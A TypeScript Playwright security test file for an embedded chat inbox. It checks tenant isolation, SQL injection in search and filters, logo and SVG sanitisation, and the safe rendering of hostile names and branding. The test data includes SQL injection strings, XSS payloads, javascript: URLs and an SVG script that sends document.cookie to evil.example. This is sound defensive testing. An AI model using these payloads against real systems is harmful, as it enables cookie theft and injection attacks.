import type { Frame } from "@playwright/test";
import { expect, test } from "../fixtures.ts";
import { HostPage } from "../pages/host-page.ts";
import { framesOf } from "../support/ears.ts";
import { HostServer } from "../support/host-server.ts";
import { newCustomer } from "../support/meta.ts";
import { Neighbour } from "../support/neighbour.ts";

// Holes that others had, and names that are made to break a screen.

const say = (host: HostPage, type: string, payload: object) =>
  host.page.evaluate(
    ([kind, what]) => {
      const frame = document.querySelector<HTMLIFrameElement>("#inbox iframe")!;
      frame.contentWindow!.postMessage({ source: "pilot-status-embed", v: 1, type: kind, payload: what }, new URL(frame.src).origin);
    },
    [type, payload] as const,
  );

test("a conversation of another tenant is opened as little as one that does not exist (CVE-2026-115725)", async ({
  host,
  demo,
  session,
  meta,
  page,
  complaints,
}) => {
  complaints.allow(/\[PilotStatus\] CONVERSATION_NOT_FOUND/);
  const next = await Neighbour.move(demo);
  const theirs = newCustomer("Fay Foreign");
  await next.hears(theirs, "Said next door");
  const foreign = await next.conversation(host.origin);
  await meta.text(newCustomer("Hugo Home"), "Said at home");
  const { token } = await session();
  const inbox = await host.show(demo.inbox, { token, locale: "en" });
  await inbox.open("Hugo Home");
  await inbox.composer.fill("A draft");
  const answers: Promise<string>[] = [];
  page.on("response", (response) => {
    if (response.url().includes("/api/") && !response.url().endsWith("/live")) answers.push(response.text().catch(() => ""));
  });
  // One that does not exist, first: the two have to be told in the same words.
  const unknown = `${foreign.slice(0, -6)}ZZZZZZ`;
  expect(unknown).not.toBe(foreign);
  for (const [count, target] of [{ conversationId: unknown }, { conversationId: foreign }, { phone: `+${theirs.phone}` }].entries()) {
    await say(host, "open-conversation", target);
    await host.hears(({ errors }) => expect(errors).toHaveLength(count + 1));
  }
  const { errors, opened } = await host.seen();
  expect(new Set(errors.map((error) => JSON.stringify(error))).size).toBe(1);
  expect(errors[0]!.code).toBe("CONVERSATION_NOT_FOUND");
  expect(opened).not.toContain(foreign);
  await expect(inbox.message("Said at home")).toBeVisible();
  await expect(inbox.composer).toHaveValue("A draft");
  const told = (await Promise.all(answers)).join("\n");
  for (const words of ["Fay Foreign", "Said next door", theirs.phone.slice(2)]) {
    expect(told).not.toContain(words);
    await expect(inbox.root).not.toContainText(words);
  }
});

test("filters and cursors that are SQL find nothing and break nothing (CVE-2025-21628)", async ({ host, demo, session, meta, page, complaints }) => {
  complaints.allow(/status of 400/);
  const next = await Neighbour.move(demo);
  await next.hears(newCustomer("Sid Secret"), "Beyond the filter");
  await meta.text(newCustomer("Quinn Query"), "It's 100% done");
  const { token } = await session();
  const inbox = await host.show(demo.inbox, { token });
  const [own] = framesOf(page, demo.inbox);
  // As a script in the frame would ask, with the token that it has.
  const ask = (path: string, body: object) =>
    own!.evaluate(
      async ([url, bearer, origin, json]) => {
        const headers = { authorization: `Bearer ${bearer}`, "x-parent-origin": origin!, "content-type": "application/json" };
        const answer = await fetch(url!, { method: "POST", headers, body: json! });
        return { status: answer.status, text: await answer.text() };
      },
      [`${demo.inbox}/api/${path}`, token, host.origin, JSON.stringify(body)],
    );
  const page_ = { limit: 20, older: null, newer: null };
  // The index follows what is stored.
  const finds = async () => (await ask("search", { query: "100% done", conversation_id: null, page: page_ })).text;
  await expect.poll(finds, { timeout: 15_000 }).toContain("Quinn Query");
  const sql = ["' OR '1'='1", "%' OR 1=1 --", "x' UNION SELECT body FROM messages --", "1; DROP TABLE messages", '" OR "" = "', "NEAR(a b)", "a* OR b*", "body:Beyond", "^Beyond", "\\' OR 1=1 --"];
  for (const query of sql) {
    const { status, text } = await ask("search", { query, conversation_id: null, page: page_ });
    expect([query, status]).toEqual([query, 200]);
    expect(text, query).not.toMatch(/Sid Secret|Beyond the filter|syntax|sqlite|postgres/i);
  }
  // Everything that is left of a query that is only signs: not every row there is.
  const signs = await ask("search", { query: "%_%", conversation_id: null, page: page_ });
  expect(signs.text).not.toContain("Sid Secret");
  for (const attempt of sql.flatMap((it) => [
    { page: { ...page_, older: it } },
    { page: { ...page_, limit: it } },
    { page: page_, filter: { attribute_key: it, query_operator: it } },
    { page: page_, tenant: it, order_by: it },
  ])) {
    const { status, text } = await ask("conversations/list", attempt);
    expect([200, 400]).toContain(status);
    expect(text, JSON.stringify(attempt)).not.toMatch(/Sid Secret|Beyond the filter|syntax|sqlite|postgres/i);
  }
  await expect(inbox.row("Quinn Query")).toBeVisible();
});

test("a logo is a picture from where the policy says, and nothing else (CVE-2021-3741)", async ({ demo, meta, page, complaints }) => {
  // Of its own: the first paint in pages of an origin is that of its sessions.
  await using server = await HostServer.start();
  const host = new HostPage(page, server);
  const branded = (brandingOverride: object) =>
    fetch(`${demo.inbox}/v1/embed/sessions`, {
      method: "POST",
      headers: { "x-api-key": demo.facts.API_KEY, "content-type": "application/json" },
      body: JSON.stringify({ surface: "chat", whatsappNumberIds: [demo.facts.NUMBER_ID], allowedOrigins: [host.origin], brandingOverride }),
    });
  for (const logoUrl of ["javascript:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>", "http://cdn.example/l.svg", "//cdn.example/l.svg", "https://a:b@cdn.example/l.svg", "https://cdn.example/l.svg\n;script-src *"]) {
    const answer = await branded({ logoUrl });
    expect([logoUrl, answer.status]).toEqual([logoUrl, 400]);
    expect(await answer.json()).toMatchObject({ code: "BRANDING_OVERRIDE_INVALID", field: expect.stringContaining("logoUrl") });
  }
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="28" onload="parent.pwned=1;top.pwned=1">
    <script>window.pwned=1;parent.pwned=1;fetch("https://evil.example/" + document.cookie)</script>
    <foreignObject width="80" height="28"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;top.pwned=1&lt;/script&gt;"></iframe></foreignObject>
    <image href="https://evil.example/track.png"/><rect width="80" height="28" fill="teal"/></svg>`;
  const fetched: string[] = [];
  await page.route(/^https:\/\/(cdn|evil)\.example\//, (route) => {
    fetched.push(route.request().url());
    return route.fulfill({ contentType: "image/svg+xml", body: svg });
  });
  const address = `https://cdn.example/logo.svg?"><script>window.pwned=1</script>`;
  const minted = await branded({ logoUrl: address, companyName: "Acme <b>" });
  expect(minted.status).toBe(201);
  const { token } = (await minted.json()) as { token: string };
  await meta.text(newCustomer("Luca Logo"), "Hello");
  const inbox = await host.show(demo.inbox, { token, locale: "en" });
  const logo = inbox.root.getByRole("heading", { name: "Acme <b>" }).locator("img");
  await expect(logo).toBeVisible();
  await expect.poll(() => logo.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBe(80);
  for (const frame of page.frames()) expect(await frame.evaluate(() => "pwned" in window)).toBe(false);
  expect(new Set(fetched.map((url) => new URL(url).hostname))).toEqual(new Set(["cdn.example"]));
  expect(await logo.evaluate((image) => image.tagName)).toBe("IMG");
  // No other picture: what a message or a name says cannot fetch one, and the policy names no other place.
  complaints.allow(/violates the following Content Security Policy/);
  const other = await inbox.root.evaluate(
    (root) =>
      new Promise((done) => {
        const image = root.ownerDocument.createElement("img");
        image.onerror = () => done("refused");
        image.onload = () => done("loaded");
        image.src = "https://evil.example/track.png";
      }),
  );
  expect(other).toBe("refused");
});

const HOSTILE = [
  `<script>window.pwned=1</script><img src=x onerror="window.pwned=1">`,
  `"><svg onload=window.pwned=1><style>*{display:none}</style>`,
  "\u202Eevil\u202Etxet \u2066\u2067\u200F\u061C mixed שלום مرحبا",
  "😀".repeat(10_000),
  `Z${"\u0335\u0321\u0358\u0489".repeat(200)}algo`,
  "W".repeat(10_000),
  "\u0000\u0007\u001b[31m\u2028\u2029line\r\nbreak",
];

/** What does not fit: sideways scrolling, and panes that stand over each other. */
function misfits(root: Element): string[] {
  const page = root.ownerDocument.documentElement;
  const found = page.scrollWidth > page.clientWidth ? [`the page is ${page.scrollWidth - page.clientWidth} px too wide`] : [];
  for (const pane of root.querySelectorAll(".pane-list, .list-scroll, .pane-thread, .pane-head, .thread-scroll, .context-card, .details-list, .brand-foot")) {
    // In a narrow inbox one pane waits outside.
    if (getComputedStyle(pane).visibility === "hidden") continue;
    const box = pane.getBoundingClientRect();
    if (pane.scrollWidth > pane.clientWidth + 1) found.push(`${pane.className} scrolls sideways by ${pane.scrollWidth - pane.clientWidth} px`);
    if (box.left < -1 || box.right > page.clientWidth + 1) found.push(`${pane.className} stands out of the page`);
  }
  return found;
}

const isClean = async (frames: Frame[]) => {
  for (const frame of frames) expect(await frame.evaluate(() => "pwned" in window)).toBe(false);
};

test("hostile names in list, thread and details are text, and the rows keep their heights", async ({ host, demo, session, meta, page }) => {
  test.slow();
  const calm = newCustomer("Calm Row");
  await meta.text(calm, "All is well");
  const { token } = await session();
  const inbox = await host.show(demo.inbox, { token, locale: "en", theme: "light" });
  const height = await inbox.row("Calm Row").evaluate((row) => row.getBoundingClientRect().height);
  const head = () => inbox.root.evaluate((root) => root.querySelector(".pane-thread .pane-head")!.getBoundingClientRect().height);
  await inbox.open("Calm Row");
  const calmHead = await head();
  for (const [index, hostile] of HOSTILE.entries()) {
    // WhatsApp's names are short; nobody promises that.
    const person = newCustomer(`${hostile}`);
    await meta.texts(person, [hostile.slice(0, 4_096), `marker ${index} ${person.phone}`]);
    await inbox.row(`marker ${index} ${person.phone}`).click();
    await expect(inbox.message(`marker ${index} ${person.phone}`)).toBeVisible();
    await expect.poll(head, `head of ${index}`).toBe(calmHead);
    await expect.poll(() => inbox.root.evaluate(misfits), `name ${index}`).toEqual([]);
    await expect(inbox.composer).toBeInViewport({ ratio: 1 });
  }
  const heights = await inbox.rows.evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
  expect(new Set(heights)).toEqual(new Set([height]));
  await expect(inbox.row("<script>window.pwned=1</script>")).toHaveCount(1);
  await isClean(page.frames());
});

test("hostile records of the page are text, and the panes keep their places", async ({ host, demo, session, meta, page }) => {
  const rita = newCustomer("Rita Record");
  await meta.text(rita, "Hello");
  const { token } = await session();
  const inbox = await host.show(demo.inbox, { token, locale: "en" });
  await inbox.open("Rita Record");
  const card = inbox.frame.getByTestId("context-card");
  for (const width of [1280, 700, 340]) {
    await page.setViewportSize({ width, height: 800 });
    for (const [index, hostile] of HOSTILE.entries()) {
      await say(host, "set-context", {
        context: {
          type: hostile.slice(0, 9_000),
          id: hostile.slice(0, 9_000),
          name: `${index} ${hostile.slice(0, 9_000)}`,
          title: hostile.slice(0, 9_000),
          url: "javascript:window.pwned=1",
          data: Object.fromEntries([...HOSTILE.map((it, at) => [it.slice(0, 5_000), HOSTILE.at(-at)!.slice(0, 5_000)]), ["__proto__", "x"], ["constructor", "y"]]),
        },
      });
      await expect(card).toContainText(`${index} `);
      await expect.poll(() => inbox.root.evaluate(misfits), `record ${index} at ${width}`).toEqual([]);
      await expect(card.locator("a")).toHaveCount(0);
      expect(await card.evaluate((node) => node.querySelectorAll("script, img, svg[onload], style, iframe").length)).toBe(0);
      if (width > 340) await expect(inbox.composer).toBeInViewport({ ratio: 1 });
    }
  }
  await isClean(page.frames());
});

test("hostile branding is text of its own height", async ({ demo, meta, page }) => {
  await using server = await HostServer.start();
  const host = new HostPage(page, server);
  await meta.text(newCustomer("Bea Brand"), "Hello");
  const heights = new Set<number>();
  for (const text of ["Acme", ...HOSTILE]) {
    const minted = await fetch(`${demo.inbox}/v1/embed/sessions`, {
      method: "POST",
      headers: { "x-api-key": demo.facts.API_KEY, "content-type": "application/json" },
      body: JSON.stringify({
        ...{ surface: "chat", whatsappNumberIds: [demo.facts.NUMBER_ID], allowedOrigins: [host.origin] },
        brandingOverride: { companyName: [...text].slice(0, 60).join(""), subtitle: [...text].slice(0, 120).join(""), primaryColor: "#ffff00", backgroundColor: "#ffffff" },
      }),
    });
    expect(minted.status, await minted.clone().text()).toBe(201);
    const { token } = (await minted.json()) as { token: string };
    const inbox = await host.show(demo.inbox, { token, locale: "en" });
    await expect(inbox.row("Bea Brand")).toBeVisible();
    heights.add(await inbox.root.evaluate((root) => root.querySelector(".pane-list .pane-head")!.getBoundingClientRect().height));
    await expect.poll(() => inbox.root.evaluate(misfits), text.slice(0, 20)).toEqual([]);
    expect(await inbox.root.evaluate((root) => root.querySelectorAll(".brand *:not(h2, p, .brand-name)").length)).toBe(0);
  }
  expect(heights.size, `heights of the head: ${[...heights]}`).toBe(1);
  await isClean(page.frames());
});
